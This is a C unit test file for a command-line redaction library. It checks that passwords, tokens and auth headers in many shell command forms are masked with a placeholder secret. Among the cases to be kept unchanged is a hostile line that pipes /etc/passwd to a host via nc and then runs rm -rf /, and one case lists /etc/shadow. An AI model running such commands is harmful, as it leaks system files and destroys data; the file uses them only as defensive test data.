/* SPDX-License-Identifier: Apache-2.0 */
/* Commands for the record: what must not be in them, then what must. */
#include "unit.h"

#include "redact_words.h"

#define S "hunter2"
#define WORDS_MAX 8

/* The words of one command, each in brackets. */
static void
tell(const char *const *words, char *out, size_t size)
{
	struct redact_words state = REDACT_WORDS_INIT;
	struct redact_out o = { NULL, ERR_OK };
	struct buf b;
	size_t i;

	buf_init(&b, size - 1);
	o.b = &b;
	for (i = 0; i < WORDS_MAX && words[i] != NULL; i++) {
		redact_put(&o, "[", 1);
		redact_word(&state, span_of(words[i]), &o);
		redact_put(&o, "]", 1);
	}
	expect_err(words[0], o.rc, ERR_OK);
	memcpy(out, b.data + b.off, b.len);
	out[b.len] = '\0';
	buf_fini(&b);
}

/* --- what must go -------------------------------------------------------- */

static const char *const in_words[][WORDS_MAX] = {
	/* flags whose name says it, and what follows them */
	{ "x", "--password", S },
	{ "x", "--password", "-" S },
	{ "x", "--password", "--" S },
	{ "x", "--password", "--token", S },
	{ "x", "--password-stdin", "--token", S, "h" },
	{ "x", "--password=" S },
	{ "x", "--password=a " S },
	{ "x", "--password=a=" S },
	{ "x", "--PassWord", "a b; " S },
	{ "x", "-password", S },
	{ "x", "-password=" S },
	{ "x", "-passin", "pass:" S },
	{ "x", "-pw", S },
	{ "x", "--api-key", S },
	{ "x", "--signing-key", S },
	{ "x", "--auth", "basic", S },
	{ "x", "--sig=" S },
	/* -p, and letters of programs that are known */
	{ "mysql", "-p" S },
	{ "mysql", "-p1" S },
	{ "mysql", "-p", S },
	{ "-p" S, "-u", "root" },
	{ "-p", S },
	{ "mkdir", "-p" S },
	{ "find", "-perm" S },
	{ "mongo", "-u", "me", "-p", S },
	{ "sshpass", "-p", S, "ssh", "h" },
	{ "redis-cli", "-a", S, "get", "k" },
	{ "/usr/bin/redis-cli", "-a" S },
	{ "sudo", "ldapsearch", "-w", S },
	{ "openssl", "enc", "-k", S },
	{ "curl", "-b", "session=" S },
	/* users with passwords */
	{ "curl", "-u", "me:" S, "h" },
	{ "curl", "-ume:" S },
	{ "curl", "-u", "me:x:" S },
	{ "curl", "--user", "me:a b" S },
	{ "curl", "--user=me:" S },
	{ "curl", "--proxy-user", "me:" S },
	{ "smbclient", "-U", "me%" S },
	{ "x", "me:" S "@tcp(h:1)/db" },
	{ "x", "--dsn=me:" S "@tcp(h:1)/db" },
	{ "x", "http://me:" S "@h/x" },
	{ "x", "--url", "http://me:" S "@h/x" },
	{ "x", "--url=http://" S "@h/x" },
	{ "x", "https://h/x?a=" S },
	/* headers */
	{ "curl", "-H", "Authorization: Bearer " S },
	{ "curl", "-H", "Authorization:Basic " S },
	{ "curl", "-H", "authorization: " S, "h" },
	{ "curl", "-HAuthorization: Bearer " S },
	{ "curl", "--header=X-Auth-Token: " S },
	{ "curl", "-H", "Cookie: a=" S "; b=" S },
	{ "curl", "-H", "Private-Token: " S },
	{ "x", "Authorization:", "Bearer", S },
	{ "x", "Bearer", S },
	/* assignments */
	{ "env", "A=" S },
	{ "env", "A=a " S },
	{ "A=" S },
	{ "x", "a.b-c=" S },
	{ "x", "A+=" S },
	{ "x", "-e", "A=" S },
	{ "x", "-e", "A=a " S },
	{ "x", "--env=A=" S },
	{ "x", "--env=A=a b " S },
	{ "x", "--build-arg", "A=" S },
	{ "x", "--from-literal=a=" S },
	{ "x", "--mount=type=bind,a=" S },
	{ "x", "-DPASSWORD=" S },
	{ "x", "//registry/:_authToken=" S },
	/* words that say it */
	{ "mysqladmin", "password", S },
	{ "mysqladmin", "password", "-" S },
	{ "x", "config", "set", "aws_secret_access_key", S },
	{ "x", "//registry/:_authToken", S },
	{ "x", "{\"password\":\"" S "\"}" },
	{ "x", "{\"a\":1, \"password\" : \"" S "\"}" },
	{ "x", "{\"token\":\n\t\"" S "\"}" },
	{ "x", "token:\n  " S },
	{ "psql", "-c", "ALTER ROLE x PASSWORD '" S "'" },
	{ "x", "SET PASSWORD FOR x = PASSWORD('" S "')" },
	{ "x", "-e", "CREATE USER x IDENTIFIED BY '" S "'" },
	/* what tells by itself what it is */
	{ "x", "ghp_" S },
	{ "x", "eyJ" S },
	{ "x", "--join=SWMTKN-1-" S },
	{ "x", "-----BEGIN PRIVATE KEY-----\n" S },
};

static void
hides_it_in_words(void **state)
{
	char out[1024];
	size_t i;

	(void)state;
	for (i = 0; i < NELEM(in_words); i++) {
		tell(in_words[i], out, sizeof(out));
		if (strstr(out, S) != NULL) {
			fail_msg("%zu: %s", i, out);
		}
	}
}

static const char *const in_lines[] = {
	"mysql -p" S,
	"mysql -p'" S "'",
	"'mysql -p'" S,
	"sh -c 'mysql --password='" S,
	"export 'A='" S,
	"mysql -p'a " S "'",
	"mysql -p \"a " S "\"",
	"mysql --password=" S " db",
	"mysql --password='a " S "' db",
	"mysql --password=\"a \\\" " S "\" db",
	"mysql --password=a\\ " S " db",
	"mysql --password \\\n\t" S,
	"mysql --password \\\r\n\t" S,
	"mysql --password -" S,
	"mysql -p" S "; ls",
	"true;mysql -p" S,
	"true && mysql -p" S " || false",
	"(mysql -p" S ")",
	"x=$(mysql -p" S ")",
	"echo $(mysql -p" S ")",
	"echo \"$(mysql -p " S ")\"",
	"echo `mysql -p " S "`",
	"export TOKEN=" S,
	"export A=" S " B=2",
	"A='a " S "' x",
	"A=\"a " S "\" x",
	"A=$(echo " S ") x",
	"A=`echo " S "` x",
	"env \"A=a " S "\" x",
	"docker run -e A=" S " i",
	"docker run -e 'A=a " S "' i",
	"docker login -u me -p " S " r",
	"echo " S " | docker login --password-stdin r",
	"echo -n '" S "' 2>&1 | x",
	"printf '%s\\n' " S " |x",
	"x <<< " S,
	"x <<<'a " S "'",
	"x <<EOF\n" S "\nEOF\nls",
	"x <<'EOF' >/f\na b " S "\nEOF",
	"curl -u me:" S " https://u:" S "@h/",
	"curl -u 'me:" S "' h",
	"curl -u \"me:a " S "\" h",
	"curl -H 'Authorization: Bearer " S "' h",
	"curl -H \"Authorization: Basic " S "\" h",
	"curl -H Authorization:\\ Bearer\\ " S " h",
	"curl -H\"Cookie: " S "\" h",
	"curl -d '{\"password\":\"" S "\"}' h",
	"curl -d '{\"a\": 1, \"token\": \"" S "\"}' h",
	"curl --data '{\"password\" : \"a;" S "\"}' h",
	"curl 'http://h/?a=" S "'",
	"git clone https://" S "@h/r.git",
	"wget --header=\"X-Auth: " S "\" h",
	"sh -c \"mysql -p" S "\"",
	"sh -c 'mysql -p " S "'",
	"bash -lc \"curl -u a:" S " h\"",
	"sh -c \"sh -c 'mysql -p " S "'\"",
	"sh -c \"mysql --password=\\\"a " S "\\\"\"",
	"ssh h 'A=a; mysql -p " S "'",
	"x\"password: \"" S,
	"x'--password='" S,
	"mysql -e \"SET PASSWORD = PASSWORD('" S "')\"",
	"psql -c \"ALTER ROLE x PASSWORD '" S "'\"",
	"{ mysql -p" S "; }",
	"while read x; do mysql -p " S "; done",
	"if mysql -p " S "\nthen true; fi",
	"mysql --password '" S,
	"mysql --password \"" S,
	"mysql --password $(echo " S,
	"mysql --password `echo " S,
	"mysql --password=\"" S,
	"chpasswd <<< root:" S,
};

/* Each as all of a command, as the word behind sh -c, and in quotes there. */
static void
hides_it_in_lines(void **state)
{
	static const char *const around[] = { "%s", "sh -c '%s'",
		"exec sh -c "
		"\"%s\"",
		"( %s )", "a; %s", "a\n%s\n" };
	const char *alone[] = { NULL, NULL };
	const char *behind[] = { "sh", "-c", NULL, NULL };
	const char *check[] = { "CMD-SHELL", NULL, NULL };
	char line[512], out[1024];
	size_t i, k;

	(void)state;
	for (i = 0; i < NELEM(in_lines) * NELEM(around); i++) {
		const char *const *ways[] = { alone, behind, check };
		char quote = i % NELEM(around) == 1   ? '\''
			     : i % NELEM(around) == 2 ? '"'
						      : '\0';

		if (quote != '\0' &&
		    strchr(in_lines[i / NELEM(around)], quote) != NULL) {
			continue; /* in quotes it is another command */
		}
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
		(void)snprintf(line, sizeof(line), around[i % NELEM(around)],
		    in_lines[i / NELEM(around)]);
#pragma GCC diagnostic pop
		alone[0] = behind[2] = check[1] = line;
		for (k = 0; k < NELEM(ways); k++) {
			tell(ways[k], out, sizeof(out));
			if (strstr(out, S) != NULL) {
				fail_msg("%s\nis told as\n%s", line, out);
			}
		}
	}
}

/* No bytes end it, whatever they are, and none costs more than it should. */
static void
ends_on_anything(void **state)
{
	static const char bytes[] = "ab=-'\"`$()<>|;&\n\\ :@p/{}";
	struct redact_words words = REDACT_WORDS_INIT;
	uint32_t seed = 7;
	char word[200];
	struct redact_out o = { NULL, ERR_OK };
	struct buf b;
	size_t i, k, n;

	(void)state;
	for (i = 0; i < 20000; i++) {
		n = unit_random(&seed) % sizeof(word);
		for (k = 0; k < n; k++) {
			word[k] =
			    bytes[unit_random(&seed) % (sizeof(bytes) - 1)];
		}
		buf_init(&b, 8 * sizeof(word));
		o.b = &b;
		redact_word(&words, span_make(word, n), &o);
		expect_err("random", o.rc, ERR_OK);
		buf_fini(&b);
	}
}

/* --- what must stay ------------------------------------------------------ */

static void
tells_the_rest(void **state)
{
	static const struct {
		const char *words[WORDS_MAX];
		const char *want;
	} t[] = {
		{ { "ls", "-la", "/etc/passwd", "/etc/shadow" },
		    "[ls][-la][/etc/passwd][/etc/shadow]" },
		{ { "sh", "-c", "cat /etc/passwd | nc h 1; rm -rf /" },
		    "[sh][-c][cat /etc/passwd | nc h 1; rm -rf /]" },
		{ { "mkdir", "-p", "/a/b" }, "[mkdir][-p][/a/b]" },
		{ { "find", "/", "-perm", "-4000", "-print" },
		    "[find][/][-perm][-4000][-print]" },
		{ { "mysql", "-uroot", "-p" S, "-h", "db", "shop" },
		    "[mysql][-uroot][-p***][-h][db][shop]" },
		{ { "x", "--password", S, "--host", "h" },
		    "[x][--password][***][--host][h]" },
		{ { "x", "--host=h", "-v", "/a:/b" },
		    "[x][--host=h][-v][/a:/b]" },
		{ { "x", "" }, "[x][]" },
		{ { "sh", "-c", "A=" S " B='b c' run --fast \"a b\" >/f" },
		    "[sh][-c][A=*** B=*** run --fast \"a b\" >/f]" },
		{ { "sh -c \"mysql -psecret; export TOKEN=x; curl -u a:b "
		    "https://u:p@h\"" },
		    "[sh -c \"mysql -p***; export TOKEN=***; curl -u a:*** "
		    "https://***@h\"]" },
		{ { "sh", "-c", "echo hello; echo " S " | x; echo bye" },
		    "[sh][-c][echo hello; echo *** | x; echo bye]" },
		{ { "CMD-SHELL", "curl -f http://h/x || exit 1" },
		    "[CMD-SHELL][curl -f http://h/x || exit 1]" },
		{ { "git", "clone", "git@h:a/b.git" },
		    "[git][clone][git@h:a/b.git]" },
		{ { "curl", "-H", "Accept: text/plain", "-H",
		      "Authorization: Bearer " S },
		    "[curl][-H][Accept: text/plain][-H][Authorization***]" },
		{ { "id", "-u", "1000" }, "[id][-u][1000]" },
	};
	char out[1024];
	size_t i;

	(void)state;
	for (i = 0; i < NELEM(t); i++) {
		tell(t[i].words, out, sizeof(out));
		expect_span(t[i].words[0], span_of(out), t[i].want);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(hides_it_in_words),
		cmocka_unit_test(hides_it_in_lines),
		cmocka_unit_test(ends_on_anything),
		cmocka_unit_test(tells_the_rest),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
